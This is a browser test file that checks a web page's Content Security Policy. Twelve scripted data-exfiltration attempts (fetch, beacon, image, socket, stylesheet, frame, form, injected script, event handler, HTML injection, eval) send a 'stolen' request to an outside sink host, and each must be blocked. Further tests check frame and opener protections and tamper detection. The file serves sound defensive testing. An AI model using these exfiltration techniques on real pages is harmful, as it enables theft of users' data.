// The policy stops what an intruder in the page would try. Each attempt is made on a copy without the policy too, where
// it must succeed: else it would prove nothing.

import assert from "node:assert/strict";
import { after, test } from "node:test";
import { browser, closeBrowser, host, ready, stage, visit } from "./stage.mjs";

after(closeBrowser);

// Each runs in the page, and does what a script of the page could do. `sink` is a host of somebody else.
const attempts = {
  "a fetch": (sink) => void fetch(sink, { mode: "no-cors" }).catch(() => {}),
  "a beacon": (sink) => void navigator.sendBeacon(sink, "key"),
  "an image": (sink) => void (new Image().src = sink),
  "a socket": (sink) => {
    try {
      new WebSocket(sink.replace("http:", "ws:"));
    } catch {}
  },
  "a style sheet": (sink) => {
    const link = Object.assign(document.createElement("link"), { rel: "stylesheet", href: sink });
    document.head.append(link);
  },
  "a frame": (sink) => {
    document.body.append(Object.assign(document.createElement("iframe"), { src: sink }));
  },
  "a form": (sink) => {
    const form = Object.assign(document.createElement("form"), { action: sink, method: "post" });
    document.body.append(form);
    form.submit();
  },
  "an injected script": (sink) => {
    const script = document.createElement("script");
    // A policy without trusted types would still ask for its hash.
    try {
      script.textContent = `fetch("${sink}", { mode: "no-cors" })`;
    } catch {}
    document.body.append(script);
  },
  "a script of another host": (sink) => {
    const script = document.createElement("script");
    try {
      script.src = sink;
    } catch {}
    document.body.append(script);
  },
  "an event handler": (sink) => {
    const button = document.createElement("button");
    try {
      button.setAttribute("onclick", `fetch("${sink}", { mode: "no-cors" })`);
    } catch {}
    document.body.append(button);
    button.click();
  },
  "HTML": (sink) => {
    try {
      document.body.insertAdjacentHTML("beforeend", `<img src="${sink}">`);
    } catch {}
  },
  // Later: while a test evaluates something, Chromium lets it evaluate more.
  "an eval": (sink) => void setTimeout(() => (0, eval)(`fetch("${sink}", { mode: "no-cors" })`)),
};

// What became of the attempt: it reached the sink, or the browser says that the policy stopped it.
async function outcome(t, html, attempt) {
  const sink = await host(t);
  const { url } = await host(t, html);
  const page = await (await browser()).newPage();
  t.after(() => page.close());
  let stopped;
  const violation = new Promise((resolve) => (stopped = resolve));
  await page.exposeFunction("stopped", stopped);
  await page.goto(url);
  await ready(page);
  await page.evaluate(() => document.addEventListener("securitypolicyviolation", () => window.stopped()));
  await page.evaluate(attempt, `${sink.url}stolen`);
  const first = await Promise.race([
    sink.reached.then(() => "reached"),
    violation.then(() => "stopped"),
    new Promise((resolve) => setTimeout(resolve, 20_000, "neither").unref()),
  ]);
  // Whatever was on its way comes before this.
  await fetch(`${sink.url}later`);
  return sink.asked.some((asked) => asked.endsWith("/stolen")) ? "reached" : first;
}

const html = await (await fetch(stage.url)).text();
const without = html.replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/, "");
assert.notEqual(html, without);

for (const [name, attempt] of Object.entries(attempts)) {
  test(`the policy stops ${name}`, async (t) => {
    assert.equal(await outcome(t, without, attempt), "reached", "without the policy");
    assert.equal(await outcome(t, html, attempt), "stopped", "with the policy");
  });
}

// Nothing can be entered, and it says why.
async function refuses(frame) {
  await frame.locator("html[data-state=failed]").waitFor({ state: "attached" });
  assert.match(await frame.locator("#failure").textContent(), /in a tab of its own/);
  assert.equal(await frame.locator("#failure").isVisible(), true);
  assert.equal(await frame.locator("main").evaluate((main) => main.inert), true);
}

test("the page refuses to work in a frame", async (t) => {
  const framed = await host(t, html);
  const { url } = await host(t, `<iframe src="${framed.url}" width="800" height="800"></iframe>`);
  const page = await (await browser()).newPage();
  t.after(() => page.close());
  await page.goto(url);
  await refuses(page.frameLocator("iframe"));
});

test("the page refuses to work for a page that opened it and can look on", async (t) => {
  const { page, context } = await visit(t);
  const opened = context.waitForEvent("page");
  await page.evaluate(() => void open(location.href));
  await refuses(await opened);
});

test("a page whose script was changed does not run", async (t) => {
  const changed = html.replace("function start()", "function  start()");
  assert.notEqual(changed, html);
  const { url } = await host(t, changed);
  const page = await (await browser()).newPage();
  t.after(() => page.close());
  await page.goto(url);
  assert.equal(await page.getAttribute("html", "data-state"), null);
});
